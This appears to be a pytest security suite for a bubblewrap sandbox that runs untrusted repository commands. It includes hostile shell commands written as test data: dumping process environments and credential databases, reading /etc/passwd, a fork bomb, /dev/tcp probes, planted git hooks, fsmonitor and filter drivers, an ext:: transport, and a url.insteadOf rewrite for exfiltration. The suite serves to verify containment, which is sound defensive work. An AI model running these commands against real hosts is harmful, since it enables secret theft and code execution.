"""A hostile repository's milestone commands get nothing the worker was not told to give (docs/SECURITY.md).

Every attack runs for real: real bubblewrap, real processes, real git, a loopback HTTP server, and whole runs
through the HTTP API, the Temporal dev server and a worker. Without bwrap these tests skip locally and fail in CI.
"""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import hashlib
import json
import os
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from temporalio.client import Client

from quantapilot.forges import gitops
from quantapilot.runs.commands import run_command
from quantapilot.sandbox import SandboxPolicy, SandboxUnavailable, command_env, launch
from quantapilot.settings import Settings
from tests.conftest import ApiFactory
from tests.e2e.test_worker_crash import worker_env
from tests.support import eventually, make_remote, remote_file, require_bwrap

# Hooks the worker's own git would run (commit, checkout, merge, push, every ref and index update).
HOOKS = (
    "pre-commit",
    "post-commit",
    "post-checkout",
    "post-merge",
    "pre-push",
    "reference-transaction",
    "post-index-change",
    "pre-auto-gc",
)
AUTHOR = {"author_name": "QP Test", "author_email": "qp-test@localhost"}


@pytest.fixture(autouse=True)
def _bwrap() -> None:
    require_bwrap()


def policy(**changes: Any) -> SandboxPolicy:
    """The default sandbox (the settings' defaults) with ``changes``."""
    return dataclasses.replace(SandboxPolicy.defaults(), **changes)


def running(cmdline: str) -> list[int]:
    """PIDs of processes whose whole command line is ``cmdline`` (each test uses its own odd sleep length)."""
    out = subprocess.run(["pgrep", "-x", "-f", cmdline], capture_output=True, text=True, check=False).stdout
    return [int(pid) for pid in out.split()]


@pytest.fixture
def leftovers() -> Iterator[list[str]]:
    """Command lines a test's commands start; whatever still runs at the end is killed (by its pid)."""
    cmdlines: list[str] = []
    yield cmdlines
    for cmdline in cmdlines:
        for pid in running(cmdline):
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)


@dataclasses.dataclass
class Host:
    """A worker host around one run's worktree: the state directory, its database, another run's worktree."""

    state: Path
    database: Path
    other_worktree: Path
    worktree: Path
    secret: str


@pytest.fixture
async def host(tmp_path: Path) -> Host:
    secret = f"qp-secret-{uuid.uuid4().hex}"
    state = tmp_path / "state"
    state.mkdir()
    database = state / "quantapilot.db"
    db = sqlite3.connect(database)
    db.execute("create table api_tokens (token_hash text)")
    db.execute("insert into api_tokens values (?)", (secret,))
    db.commit()
    db.close()
    other = state / "work" / "default" / "rr_other" / "repo"
    other.mkdir(parents=True)
    (other / "notes.txt").write_text(secret)
    url = make_remote(tmp_path, {"README.md": "# demo\n"})
    worktree = state / "work" / "default" / "rr_this" / "repo"
    worktree.parent.mkdir(parents=True)
    await gitops.clone(url, worktree, branch="main")
    return Host(state=state, database=database, other_worktree=other, worktree=worktree, secret=secret)


# ----- what a command can see ------------------------------------------------------------------------------------


async def test_sandbox_command_cannot_read_the_worker_environment_or_reach_other_processes(
    host: Host, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A service secret in the worker's environment, and a neighbour process of the worker's user.
    monkeypatch.setenv("QP_SANDBOX_TEST_SECRET", host.secret)
    neighbour = subprocess.Popen(["sleep", "97.25"])
    try:
        command = (
            "{ env; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done;"
            " for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f; echo; done; } > seen.txt 2>&1;"
            f" kill -9 {neighbour.pid}; echo done >> seen.txt"
        )
        outcome = await run_command("spy", command, cwd=host.worktree, timeout_s=30, sandbox=policy())
        seen = (host.worktree / "seen.txt").read_text(errors="replace")
        assert seen.endswith("done\n"), (outcome, seen)
        assert host.secret not in seen
        assert "sleep 97.25" not in seen  # the neighbour is not even listed
        assert neighbour.poll() is None  # and the kill did not reach it
    finally:
        neighbour.kill()
        neighbour.wait()


async def test_sandbox_command_cannot_read_or_write_the_state_directory_database_or_another_run(host: Host) -> None:
    command = (
        f"cat {host.database} {host.other_worktree}/notes.txt > loot.txt 2>&1;"
        f" ls -1A {host.state} > state.txt; ls -1A {host.state}/work/default > runs.txt;"
        " cat /etc/passwd > passwd.txt; ls /etc > etc.txt;"
        f" echo planted > {host.state}/planted; echo planted > {host.other_worktree}/planted;"
        " echo done >> loot.txt"
    )
    await run_command("loot", command, cwd=host.worktree, timeout_s=30, sandbox=policy())
    loot = (host.worktree / "loot.txt").read_text(errors="replace")
    assert loot.endswith("done\n"), loot
    assert host.secret not in loot
    assert "SQLite format 3" not in loot
    # Of the state directory only the way down to its own worktree exists: no database, no other run.
    assert (host.worktree / "state.txt").read_text() == "work\n"
    assert (host.worktree / "runs.txt").read_text() == "rr_this\n"
    # Of /etc only a short list, and accounts written for the sandbox instead of the host's.
    assert {"passwd", "group", "resolv.conf"} <= set((host.worktree / "etc.txt").read_text().split())
    assert not {"shadow", "ssh", "sudoers", "crontab"} & set((host.worktree / "etc.txt").read_text().split())
    passwd = (host.worktree / "passwd.txt").read_text()
    assert "nobody:x:65534" in passwd and len(passwd.splitlines()) <= 3, passwd
    assert not (host.state / "planted").exists()
    assert not (host.other_worktree / "planted").exists()


@pytest.fixture
async def loopback_server() -> AsyncIterator[tuple[int, list[str]]]:
    """An HTTP server on 127.0.0.1 of the worker host, recording the paths it was asked for."""
    hits: list[str] = []

    async def handle(request: web.Request) -> web.Response:
        hits.append(request.path)
        return web.Response(text="hello-from-the-host")

    app = web.Application()
    app.router.add_get("/{tail:.*}", handle)
    runner = web.AppRunner(app)
    await runner.setup()
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    site = web.SockSite(runner, sock)
    await site.start()
    try:
        yield sock.getsockname()[1], hits
    finally:
        await runner.cleanup()


async def test_sandbox_network_is_off_unless_the_repository_matches_a_network_pattern(
    host: Host, loopback_server: tuple[int, list[str]]
) -> None:
    port, hits = loopback_server
    (host.worktree / "probe.sh").write_text(
        f"exec 3<>/dev/tcp/127.0.0.1/{port} || exit 7\n"
        "printf 'GET /%s HTTP/1.0\\r\\nHost: probe\\r\\n\\r\\n' \"$1\" >&3\n"
        "cat <&3\n"
    )
    settings = Settings.model_construct(command_network_repo_patterns=["https://git.example.test/trusted/*"])
    trusted = SandboxPolicy.from_settings(settings, "https://git.example.test/trusted/tool")
    other = SandboxPolicy.from_settings(settings, "https://git.example.test/someone/else")
    assert trusted.network and not other.network

    for name, sandbox in (("default", policy()), ("unmatched", other)):
        outcome = await run_command("net", f"bash probe.sh {name}", cwd=host.worktree, timeout_s=30, sandbox=sandbox)
        assert outcome.exit_code != 0, outcome
        assert "hello-from-the-host" not in outcome.output_tail
    assert hits == []

    outcome = await run_command("net", "bash probe.sh trusted", cwd=host.worktree, timeout_s=30, sandbox=trusted)
    assert outcome.exit_code == 0, outcome
    assert "hello-from-the-host" in outcome.output_tail
    assert hits == ["/trusted"]


# ----- limits ---------------------------------------------------------------------------------------------------


async def test_sandbox_limits_processes(host: Host, leftovers: list[str]) -> None:
    leftovers.append("sleep 30.5")
    spawn = "i=0; while [ $i -lt 200 ]; do sleep 30.5 & i=$((i+1)); echo $i > started; done"
    outcome = await run_command("spawn", spawn, cwd=host.worktree, timeout_s=60, sandbox=policy(max_processes=32))
    started = int((host.worktree / "started").read_text())
    assert started < 32, (started, outcome)
    assert running("sleep 30.5") == []


async def test_sandbox_fork_bomb_is_held_at_the_process_limit_and_dies_with_its_step(host: Host) -> None:
    # A fork bomb whose processes stay (each forks twice, then blocks reading a FIFO nobody writes), while the
    # shell watches the sandbox's process count with builtins only (it could not fork either).
    marker = f"qp-bomb-{uuid.uuid4().hex[:8]}"
    bomb = (
        "mkfifo /tmp/hold; exec 3<>/tmp/hold; b() { b & b & read x <&3; }; b 2>/dev/null & max=0; i=0;"
        " while [ $i -lt 2000 ]; do set -- /proc/[0-9]*; n=$#; [ $n -gt $max ] && max=$n; i=$((i+1)); done;"
        f" echo max=$max last=$n  # {marker}"
    )
    outcome = await run_command("bomb", bomb, cwd=host.worktree, timeout_s=120, sandbox=policy(max_processes=64))
    assert not outcome.timed_out, outcome
    counts = dict(item.split("=") for item in outcome.output_tail.split() if "=" in item)
    # It filled the limit and never passed it (PID 1 and the inner bwrap's parent live outside the limited user
    # namespace: two more).
    assert 48 < int(counts["last"]) <= int(counts["max"]) <= 64 + 2, outcome
    leftover = subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True, check=False).stdout
    assert leftover == ""


async def test_sandbox_limits_file_size_and_the_private_tmp(host: Host) -> None:
    big = await run_command(
        "fill", "head -c 3000000 /dev/zero > big", cwd=host.worktree, timeout_s=30, sandbox=policy(max_file_bytes=2**20)
    )
    assert big.exit_code != 0, big
    assert (host.worktree / "big").stat().st_size <= 2**20

    name = f"qp-fill-{uuid.uuid4().hex[:8]}"
    try:
        tmp = await run_command(
            "fill",
            f"head -c 3000000 /dev/zero > /tmp/{name}; wc -c < /tmp/{name} > tmp-size",
            cwd=host.worktree,
            timeout_s=30,
            sandbox=policy(tmp_bytes=2**20, max_file_bytes=8 * 2**20),
        )
        assert int((host.worktree / "tmp-size").read_text()) <= 2**20, tmp
        assert not Path("/tmp", name).exists()  # the host's /tmp was never written to
    finally:
        Path("/tmp", name).unlink(missing_ok=True)


async def test_sandbox_limits_memory_per_process(host: Host) -> None:
    hog = "dd if=/dev/zero of=/dev/null bs=256M count=1"
    limited = await run_command(
        "hog", hog, cwd=host.worktree, timeout_s=30, sandbox=policy(max_memory_bytes=64 * 2**20)
    )
    assert limited.exit_code != 0, limited
    assert "memory exhausted" in limited.output_tail
    # The same command within the default limit: the limit, not the command, stopped it.
    roomy = await run_command("hog", hog, cwd=host.worktree, timeout_s=30, sandbox=policy())
    assert roomy.exit_code == 0, roomy


# ----- nothing outlives the step ---------------------------------------------------------------------------------


async def test_sandbox_background_children_do_not_outlive_a_finished_step(host: Host, leftovers: list[str]) -> None:
    leftovers += ["sleep 93.25", "sleep 93.5"]
    command = "sleep 93.25 >/dev/null 2>&1 & setsid sleep 93.5 >/dev/null 2>&1 & echo started"
    outcome = await run_command("bg", command, cwd=host.worktree, timeout_s=30, sandbox=policy())
    assert outcome.exit_code == 0 and "started" in outcome.output_tail, outcome
    assert running("sleep 93.25") == [] and running("sleep 93.5") == []


async def test_sandbox_timeout_bounds_the_process_exit_and_kills_escaped_children(
    host: Host, leftovers: list[str]
) -> None:
    # The shell closes its output (the pipe reports end of file at once) and keeps running; a child left its group.
    leftovers += ["sleep 94.25", "sleep 61.5"]
    command = "setsid sleep 94.25 >/dev/null 2>&1 & exec >/dev/null 2>&1; sleep 61.5"
    outcome = await run_command("slow", command, cwd=host.worktree, timeout_s=1, sandbox=policy())
    assert outcome.timed_out and outcome.exit_code is None, outcome
    assert running("sleep 94.25") == [] and running("sleep 61.5") == []


async def test_sandbox_cancellation_kills_escaped_children(host: Host, leftovers: list[str]) -> None:
    leftovers += ["sleep 95.25", "sleep 62.5"]
    command = "setsid sleep 95.25 >/dev/null 2>&1 & echo > escaped; sleep 62.5"
    task = asyncio.ensure_future(run_command("slow", command, cwd=host.worktree, timeout_s=120, sandbox=policy()))
    await eventually(
        lambda: asyncio.to_thread((host.worktree / "escaped").exists), bool, timeout=30, what="command started"
    )
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert running("sleep 95.25") == [] and running("sleep 62.5") == []


async def test_sandbox_dies_with_the_worker(host: Host, leftovers: list[str]) -> None:
    # A worker killed with SIGKILL mid-command (no cleanup runs): its sandbox goes with it (--die-with-parent).
    leftovers.append("sleep 96.25")
    script = (
        "import asyncio, sys\n"
        "from pathlib import Path\n"
        "from quantapilot.runs.commands import run_command\n"
        f"asyncio.run(run_command('slow', 'echo > started; sleep 96.25', cwd=Path({str(host.worktree)!r}), timeout_s=300))\n"
    )
    worker = subprocess.Popen([sys.executable, "-c", script])
    try:
        await eventually(lambda: asyncio.to_thread(running, "sleep 96.25"), bool, timeout=30, what="command started")
        worker.kill()
        await asyncio.to_thread(worker.wait)
        await eventually(lambda: asyncio.to_thread(running, "sleep 96.25"), lambda pids: pids == [], timeout=30)
    finally:
        worker.kill()
        worker.wait()


async def test_sandbox_unprivileged_worker_path_builds_the_same_sandbox(loopback_server: tuple[int, list[str]]) -> None:
    # A worker that does not run as root starts one unprivileged bwrap; run its argv as such a user (nobody).
    port, hits = loopback_server
    root = Path(tempfile.mkdtemp(prefix="qp-unprivileged-", dir="/tmp"))  # nobody must reach it
    try:
        root.chmod(0o755)
        worktree = root / "repo"
        (worktree / ".git").mkdir(parents=True)
        (worktree / "README.md").write_text("x\n")
        for path in (worktree, worktree / ".git", worktree / "README.md"):
            os.chown(path, 65534, 65534)  # the worker's user owns its worktree, .git included
        command = (
            "id -u > uid; echo x > .git/planted 2>/dev/null || echo git-read-only > notes;"
            f" (exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null || echo offline >> notes;"
            " i=0; while [ $i -lt 100 ]; do sleep 31.5 & i=$((i+1)); echo $i > started; done"
        )
        sandbox = policy(max_processes=16)
        env = command_env(worktree, sandboxed=True)
        with launch(sandbox, f"bash -c '{command}'", cwd=worktree, env=env, as_root=False) as start:
            assert "--disable-userns" in start.argv and "setpriv" not in " ".join(start.argv)
            result = await asyncio.to_thread(
                subprocess.run,
                start.argv,
                user=65534,
                group=65534,
                extra_groups=[],
                env={"PATH": env["PATH"]},
                capture_output=True,
                timeout=60,
                check=False,
                pass_fds=start.pass_fds,
            )
        assert (worktree / "uid").read_text() == "65534\n", result
        assert (worktree / "notes").read_text() == "git-read-only\noffline\n", result
        assert int((worktree / "started").read_text()) < 16, result
        assert hits == []
        assert running("sleep 31.5") == []
    finally:
        shutil.rmtree(root, ignore_errors=True)


async def test_sandbox_missing_bwrap_refuses_to_run_commands(host: Host) -> None:
    missing = policy(bwrap=str(host.state / "no-such-bwrap"))
    with pytest.raises(SandboxUnavailable, match="bubblewrap not found"):
        await run_command("x", "touch ran", cwd=host.worktree, timeout_s=30, sandbox=missing)
    assert not (host.worktree / "ran").exists()


# ----- the worker's git after a command ------------------------------------------------------------------------


def plant_script(markers: Path) -> str:
    """Shell commands that plant hooks, an fsmonitor and a filter driver for the worker's git, and use them.

    Each would leave a file in ``markers`` (outside the worktree) when the worker's git ran it.
    """
    hooks = " ".join(HOOKS)
    return f"""
mkdir -p .git/hooks .evil
printf '#!/bin/sh\\ntouch {markers}/fsmonitor\\n' > .evil/fsmonitor; chmod +x .evil/fsmonitor
for h in {hooks}; do printf '#!/bin/sh\\ntouch {markers}/hook-%s\\n' "$h" > .git/hooks/$h; chmod +x .git/hooks/$h; done
git config core.fsmonitor "$PWD/.evil/fsmonitor"
printf '[filter "qpevil"]\\n\\tclean = touch {markers}/filter-clean; cat\\n\\tsmudge = touch {markers}/filter-smudge; cat\\n' >> .git/config
printf '[diff "qpevil"]\\n\\ttextconv = touch {markers}/textconv; cat\\n' >> .git/config
echo '* filter=qpevil diff=qpevil' > .gitattributes
echo changed >> README.md
true
"""


async def test_sandbox_planted_hooks_fsmonitor_and_filters_never_run_in_the_worker_git(
    host: Host, tmp_path: Path
) -> None:
    markers = tmp_path / "markers"
    markers.mkdir()
    config_before = (host.worktree / ".git" / "config").read_text()
    outcome = await run_command("plant", plant_script(markers), cwd=host.worktree, timeout_s=30, sandbox=policy())
    # What the worker does next with the worktree: commit, switch branches, push.
    assert await gitops.commit_all(host.worktree, message="milestone", **AUTHOR) is not None
    await gitops.git("diff", "HEAD~1", "--stat", cwd=host.worktree)
    await gitops.checkout_new_branch(host.worktree, "feature", start_point="HEAD~1")
    await gitops.git("checkout", "--quiet", "main", cwd=host.worktree)
    await gitops.push(host.worktree, branch="main")
    assert sorted(p.name for p in markers.iterdir()) == []
    assert "Read-only file system" in outcome.output_tail, outcome
    assert (host.worktree / ".git" / "config").read_text() == config_before
    assert not any((host.worktree / ".git" / "hooks" / h).exists() for h in HOOKS)


async def test_sandbox_worker_git_ignores_hooks_fsmonitor_and_transports_a_repository_config_names(
    host: Host, tmp_path: Path
) -> None:
    # As if something had written the worktree's .git (a command run with QP_COMMAND_SANDBOX=none): the worker's
    # own git still runs none of it.
    markers = tmp_path / "markers"
    markers.mkdir()
    git_dir = host.worktree / ".git"
    # Clones copy no template (gitops.clone), so there is no hooks folder to plant in until one is made.
    (git_dir / "hooks").mkdir(exist_ok=True)
    for hook in HOOKS:
        (git_dir / "hooks" / hook).write_text(f"#!/bin/sh\ntouch {markers}/hook-{hook}\n")
        (git_dir / "hooks" / hook).chmod(0o755)
    monitor = tmp_path / "fsmonitor"
    monitor.write_text(f"#!/bin/sh\ntouch {markers}/fsmonitor\n")
    monitor.chmod(0o755)
    origin = (await gitops.git("remote", "get-url", "origin", cwd=host.worktree)).stdout.strip()
    with (git_dir / "config").open("a") as config:
        config.write(f"[core]\n\tfsmonitor = {monitor}\n")
        # The ext:: transport turned back on, and origin rewritten to a command.
        config.write(f'[protocol "ext"]\n\tallow = always\n[url "ext::sh -c touch% {markers}/ext"]\n')
        config.write(f"\tinsteadOf = {origin}\n")
    (host.worktree / "a.txt").write_text("a\n")
    assert await gitops.commit_all(host.worktree, message="a", **AUTHOR) is not None
    await gitops.checkout_new_branch(host.worktree, "feature")
    fetched = await gitops.git("fetch", "--quiet", "origin", cwd=host.worktree, check=False)
    assert fetched.returncode != 0
    assert sorted(p.name for p in markers.iterdir()) == []


async def test_sandbox_worker_git_uses_only_the_transports_the_allowed_patterns_need(
    host: Host, loopback_server: tuple[int, list[str]]
) -> None:
    # A config rewriting origin to an HTTP server (say, to exfiltrate what the worker pushes): a deployment that
    # allows only file:// repositories gives git no http transport at all.
    port, hits = loopback_server
    origin = (await gitops.git("remote", "get-url", "origin", cwd=host.worktree)).stdout.strip()
    with (host.worktree / ".git" / "config").open("a") as config:
        config.write(f'[url "http://127.0.0.1:{port}/loot.git"]\n\tinsteadOf = {origin}\n')
    gitops.restrict_protocols(gitops.protocols_for(["file://*"]))
    assert gitops.protocols_for(["https://*", "git@*:*"]) == ("https", "ssh")
    with pytest.raises(gitops.GitError):
        await gitops.push(host.worktree, branch="main")
    assert hits == []


# ----- end to end: the API, the dev server and a worker ------------------------------------------------------

ATTACK_YML = """\
version: 1
policies: {merge: merge}
milestones:
  - id: M-001
    title: Hostile
    steps:
      - {name: impl, run: "sh attack.sh", timeout_s: 60}
"""


def attack_script(settings: Settings, markers: Path) -> str:
    """Reads everything a worker host holds, and plants code for the worker's git; the loot is committed."""
    state = settings.state_dir.resolve()
    return f"""
{{
  env
  for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f"; done
  for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < "$f"; echo; done
  cat {state}/quantapilot.db
  ls -laR {state}
  cat {state}/work/default/rr_other/repo/notes.txt
}} > loot.txt 2>&1
ls -1A {state} > state.txt
ls -1A {state}/work/default > runs.txt
{plant_script(markers)}
echo done >> loot.txt
"""


@pytest.fixture
def attack_settings(settings: Settings) -> Settings:
    return settings.model_copy(update={"command_repo_patterns": ["file://*"]})


async def test_sandbox_end_to_end_hostile_milestone_gets_nothing_and_the_run_completes(
    make_api: ApiFactory,
    attack_settings: Settings,
    client: Client,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from worker import build_worker

    settings = attack_settings
    secret = f"qp-secret-{uuid.uuid4().hex}"
    monkeypatch.setenv("QP_SANDBOX_TEST_SECRET", secret)  # the worker's environment (in-process worker)
    other = settings.run_workdir / "default" / "rr_other" / "repo"
    other.mkdir(parents=True)
    (other / "notes.txt").write_text(secret)
    markers = tmp_path / "markers"
    markers.mkdir()
    api = await make_api(settings)
    token_hash = hashlib.sha256(api.token.encode()).hexdigest()
    url = make_remote(
        tmp_path,
        {"README.md": "# demo\n", "attack.sh": attack_script(settings, markers), "quantapilot.yml": ATTACK_YML},
    )
    async with build_worker(client, settings):
        _, body = await api.post("/run", {"repo_url": url, "branch": "main"})
        run_id = body["run_id"]
        worktree = settings.run_workdir / "default" / run_id / "repo"
        for gate in ("anchor", "M-001", "first_merge"):
            status = await api.wait_gate(run_id, gate)
            assert status["state"] == "waiting_for_gate", status
            if gate == "M-001":
                # The commands have run; the worktree (removed when the run ends) still holds what they left.
                assert "qpevil" not in (worktree / ".git" / "config").read_text()
            code, decided = await api.decide(run_id, gate, True)
            assert code == 200, decided
        final = await api.wait_state(run_id, "completed", "failed")
    assert final["state"] == "completed", final
    # Commit, push, the merge's scratch worktree and the push of main ran none of the planted code.
    assert sorted(p.name for p in markers.iterdir()) == []
    branch = final["milestones"][0]["branch"]
    loot = remote_file(url, branch, "loot.txt") or ""
    assert loot.endswith("done\n"), loot[-500:]
    for stolen in (secret, token_hash, "SQLite format 3"):
        assert stolen not in loot, stolen
    # Of the state directory, the command saw only the way down to its own worktree.
    assert remote_file(url, branch, "state.txt") == "work\n"
    assert remote_file(url, branch, "runs.txt") == f"{run_id}\n"
    assert "changed" in (remote_file(url, "main", "README.md") or "")


async def test_sandbox_end_to_end_without_bwrap_the_run_fails_with_commands_sandbox_unavailable(
    make_api: ApiFactory, attack_settings: Settings, client: Client, tmp_path: Path
) -> None:
    from worker import build_worker

    settings = attack_settings.model_copy(update={"command_sandbox_bwrap": str(tmp_path / "no-such-bwrap")})
    api = await make_api(settings)
    yml = "version: 1\nmilestones:\n  - id: M-001\n    title: T\n    steps:\n      - {name: impl, run: 'touch ran'}\n"
    url = make_remote(tmp_path, {"README.md": "# demo\n", "quantapilot.yml": yml})
    async with build_worker(client, settings):
        _, body = await api.post("/run", {"repo_url": url, "branch": "main"})
        final = await api.wait_state(body["run_id"], "failed", "waiting_for_gate")
    assert final["state"] == "failed", final
    assert final["error"]["code"] == "COMMANDS_SANDBOX_UNAVAILABLE"
    assert "bubblewrap not found" in final["error"]["message"]
    assert [e["type"] for e in await api.events(body["run_id"])] == ["run.started", "run.failed"]


@pytest.mark.slow
# (The hostile-milestone test stays in both passes: the database it must not reach is a file in the state
# directory on SQLite, a server named in the worker's settings on PostgreSQL.)
@pytest.mark.one_pass(
    "sqlite",
    why="about the worker's QP_COMMAND_SANDBOX=none and its log line; its run is an ordinary one, whose "
    "database calls the e2e tests make on PostgreSQL",
)
async def test_sandbox_end_to_end_opt_out_runs_unsandboxed_and_the_worker_log_says_so(
    make_api: ApiFactory, attack_settings: Settings, tmp_path: Path
) -> None:
    settings = attack_settings
    api = await make_api(settings)
    state = settings.state_dir.resolve()
    yml = (
        "version: 1\npolicies: {gates: ['-first_merge']}\nmilestones:\n  - id: M-001\n    title: T\n"
        f"    gate: false\n    steps:\n      - {{name: impl, run: 'test -d {state} && echo unsandboxed > seen.txt'}}\n"
    )
    url = make_remote(tmp_path, {"README.md": "# demo\n", "quantapilot.yml": yml})
    log = tmp_path / "worker.log"
    env = worker_env(settings) | {"QP_COMMAND_SANDBOX": "none", "QP_LOG_FORMAT": "json"}
    with log.open("ab") as out:
        worker = subprocess.Popen([sys.executable, "-m", "worker"], env=env, stdout=out, stderr=out)
    try:
        _, body = await api.post("/run", {"repo_url": url, "branch": "main"})
        run_id = body["run_id"]
        await api.wait_gate(run_id, "anchor")
        await api.decide(run_id, "anchor", True)
        final = await api.wait_state(run_id, "completed", "failed")
    finally:
        worker.terminate()
        await asyncio.to_thread(worker.wait, 30)
    assert final["state"] == "completed", final
    # It really ran outside a sandbox: it saw the worker's state directory.
    assert remote_file(url, "main", "seen.txt") == "unsandboxed\n"
    lines = [json.loads(line) for line in log.read_text().splitlines() if line.startswith("{")]
    warnings = [line for line in lines if "QP_COMMAND_SANDBOX=none" in line.get("message", "")]
    assert warnings and warnings[0]["level"] in ("WARNING", "warning"), lines[:5]
